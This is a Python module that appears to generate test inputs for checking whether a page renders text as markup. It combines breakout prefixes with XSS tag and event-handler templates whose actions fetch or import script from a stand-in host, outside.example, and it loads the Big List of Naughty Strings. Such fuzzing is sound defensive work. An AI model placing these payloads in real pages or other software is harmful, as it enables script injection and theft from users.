"""Words that would act where a page took them for more than words.

Beside ours is the Big List of Naughty Strings (naughty_strings.json, by Max Woolf, under the MIT licence beside it).
"""

import json
from itertools import product
from pathlib import Path

# Nobody answers there; whoever asks shows that a text was taken for an address.
OUTSIDE = "http://outside.example"
DEEDS = ("alert(1)", f"fetch('{OUTSIDE}/f')", f"import('{OUTSIDE}/i.js')")
ACTING = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}></b>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<form><button formaction='javascript:{}' autofocus>",
    "<a href='javascript:{}'>here</a>",
    "<marquee onstart={}>",
    "<template><img src=x onerror={}></template>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
)
# What a text would have to end first, were it put together with something else.
BEFORE = ("", '">', "'>", "--></title></style></textarea></script>", "]]>", '" autofocus onfocus="alert(1)" x="')
ASKING = (
    f"<img src={OUTSIDE}/p.png>",
    f"<link rel=stylesheet href={OUTSIDE}/s.css>",
    f"<script src={OUTSIDE}/s.js></script>",
    f"<iframe src={OUTSIDE}/></iframe>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>",
    f"<video poster={OUTSIDE}/v.png>",
    f"<style>*{{background:url({OUTSIDE}/b.png)}}</style>",
    f"<b style='background:url({OUTSIDE}/c.png)'>b</b>",
    f"<svg><image href={OUTSIDE}/i.svg></svg>",
    f"![p]({OUTSIDE}/m.png)",
    f"url({OUTSIDE}/u.png)",
)
PAYLOADS = [
    *(before + acting.format(deed) for before, acting, deed in product(BEFORE, ACTING, DEEDS)),
    *(before + asking for before, asking in product(BEFORE, ASKING)),
]
NAUGHTY: list[str] = json.loads(Path(__file__).with_name("naughty_strings.json").read_text(encoding="utf-8"))
WORDS = PAYLOADS + NAUGHTY
